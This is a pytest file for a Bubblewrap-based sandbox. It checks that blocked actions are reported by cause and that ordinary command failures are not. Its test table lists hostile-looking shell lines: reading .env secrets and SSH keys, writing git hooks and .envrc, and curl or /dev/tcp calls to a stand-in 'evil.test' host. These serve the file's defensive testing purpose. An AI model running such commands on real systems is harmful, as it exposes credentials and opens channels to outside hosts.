"""What a box has refused is told with evidence: rightly by its cause, and never of an ordinary failure."""

from pathlib import Path

import pytest

from journeyman.sandbox import Box, Bubblewrap, SandboxRefusal, TellsRefusals, find_refusals
from journeyman.sandbox.trials import run_in_sandbox
from tests.sandbox.stage import Stage

REFUSED = {
    "cat .env": ("read", "work/.env"),
    "cp .env copy": ("read", "work/.env"),
    "tar cf a.tar .env": ("read", "work/.env"),
    "grep TOKEN .env": ("read", "work/.env"),
    "python3 -c 'open(\".env\")'": ("read", "work/.env"),
    'node -e \'require("fs").readFileSync(".env")\'': ("read", "work/.env"),
    "ls ~/.ssh": ("read", "home/.ssh"),
    "cat < .env": ("read", "work/.env"),
    "echo x > ../out/file": ("write", "out/file"),
    "touch ../out/new": ("write", "out/new"),
    "cp f ../out/file": ("write", "out/file"),
    "mkdir ../out/new": ("write", "out/new"),
    "rm -f ../out/file": ("write", "out/file"),
    'python3 -c \'open("../out/file", "w")\'': ("write", "out/file"),
    "echo x > .git/hooks/post-commit": ("protected", "work/.git/hooks/post-commit"),
    "echo x > .envrc": ("protected", "work/.envrc"),
    "mv .git g": ("protected", "work/.git"),
    "rm -rf .vscode": ("protected", "work/.vscode/tasks.json"),
    "awk 1 .env": ("read", "work/.env"),
    'perl -e \'open(F, "<", ".env") or die ".env: $!"\'': ("read", "work/.env"),
    "git add -f .env": ("read", "work/.env"),
    "install f ../out/g": ("write", "out/g"),
    "git init ../out/repo": ("write", "out/repo"),
    "gcc -x c -o ../out/a - <<< 'int main() {}'": ("write", "out/a"),
    "sed -i s/a/b/ .envrc": ("protected", "work/.envrc"),
    "git remote add o x": ("protected", "work/.git/config"),
    'node -e \'require("child_process").execFileSync("sqlite3")\'': ("program", "sqlite3"),
    "sqlite3 x": ("program", "sqlite3"),
    "/usr/bin/sqlite3 x": ("program", "sqlite3"),
    "env sqlite3 x": ("program", "sqlite3"),
    "iconv .env": ("read", "work/.env"),
    "ssh-keygen -y -f ~/.ssh/id": ("read", "home/.ssh/id"),
    "mv .env moved": ("protected", "work/.env"),
    "gpg --list-keys": ("write", "home/.gnupg"),
    "git config user.name x": ("protected", "work/.git/config"),
    "curl -o x https://evil.test": ("network", "evil.test"),
    "exec 3<> /dev/tcp/evil.test/80": ("network", "evil.test"),
    "exec 3<> /dev/tcp/192.0.2.7/80": ("network", "192.0.2.7"),
    "python3 -c 'import socket; socket.create_connection((\"evil.test\", 80))'": ("network", "a host"),
    "SSH_AUTH_SOCK=socket ssh-add -l": ("socket", "socket"),
    "tmux -S socket ls": ("socket", "socket"),
    "tmux -S ./new new": ("socket", "./new"),
    'node -e \'require("net").connect("socket")\'': ("socket", "socket"),
    'node -e \'require("net").createServer().listen("new")\'': ("socket", "new"),
    "python3 -c 'import socket; socket.socket(1).connect(\"./socket\")'": ("socket", "./socket"),
    "python3 -c 'import socket; socket.socket(1).bind(\"a\\tb\")'": ("socket", "a?b"),
    "echo 'import socket; socket.socket(1, 2)' > c.py; python3 c.py": ("socket", "a unix socket"),
    "unshare -n true": ("privilege", "unshare"),
}
NO_PATHS = ("program", "network", "socket", "privilege")
ORDINARY = (
    *(
        "grep nothing f",
        "cat missing",
        "false | true",
        "chmod 000 f; head -c1 f; ./f",
        "./f",
        "cd f",
        "rm a",
        "exit 126",
    ),
    *(
        "echo 'Permission denied'",
        "echo '.env: it says Permission denied here'",
        "test -e .env",
        "rmdir .git/objects",
        "kill -0 77777",
    ),
    *("echo x > /proc/sys/kernel/x", "mount", "strace -p 1", "rmdir missing", "sudo true", "chmod 555 a; touch a/x"),
    *("ln -s a a/b/link", "dd if=missing of=x", 'perl -e \'open(F, "<", "no") or die "no: $!"\'', "make nothing"),
    *('echo "cat: ../out/file: Permission denied"', "mkdir a", "python3 -c 'raise PermissionError'", "ls missing/.env"),
    *("python3 -m http.server 1", "tmux -L no ls", "node -e 'require(\"net\").createServer().listen(1)'"),
    *("curl http://127.0.0.1:9", "exec 3<> /dev/tcp/127.0.0.1/9", "echo 'su: it says Operation not permitted'"),
    *("git push", "python3 -c 'raise PermissionError(1, \"Operation not permitted\")'", "echo x > /dev/full", "cat a"),
)


@pytest.mark.share(one_in=3)
@pytest.mark.parametrize("line", REFUSED)
async def test_a_refusal_is_told_by_its_cause(bubblewrap: Bubblewrap, stage: Stage, line: str) -> None:
    cause, name = REFUSED[line]
    box = stage.box("sqlite3")
    opened = bubblewrap.open(box)
    assert isinstance(opened, TellsRefusals)
    _, output = await run_in_sandbox(opened, 'exec bash -c "$LINE"', {**stage.environment, "LINE": line})
    opened.close()
    what = name if cause in NO_PATHS else str(stage.folder / name)
    found = dict.fromkeys([*opened.take_refusals(), *find_refusals(box, output)])
    assert [(each.cause, each.what) for each in found] == [(cause, what)], output


@pytest.mark.share(one_in=3)
@pytest.mark.parametrize("line", ORDINARY)
async def test_an_ordinary_failure_is_no_refusal(bubblewrap: Bubblewrap, stage: Stage, line: str) -> None:
    box = stage.box("sqlite3")
    opened = bubblewrap.open(box)
    assert isinstance(opened, TellsRefusals)
    _, output = await run_in_sandbox(opened, 'exec bash -c "$LINE"', {**stage.environment, "LINE": line})
    opened.close()
    assert ([*find_refusals(box, output)], opened.take_refusals()) == ([], [])


def test_a_refusal_says_what_would_have_to_be_asked_for() -> None:
    box = Box(work="/srv/a", hidden=("/srv/keys",))
    output = "cat: /srv/keys/one: Permission denied\n" * 3 + "touch: cannot touch '../b': Read-only file system\n"
    assert find_refusals(box, output) == (
        SandboxRefusal(cause="read", what="/srv/keys/one", need="read:/srv/keys"),
        SandboxRefusal(cause="write", what="/srv/b", need="write:/srv"),
    )
    output = f"mkdir: cannot create directory '{Path.home()}/new/x': Read-only file system\n"
    assert [each.need for each in find_refusals(box, output)] == ["outside"], "nobody may change all that is at home"
    many = "".join(f"cat: /srv/keys/{number}: Permission denied\n" for number in range(9))
    assert len(find_refusals(box, many)) == 5
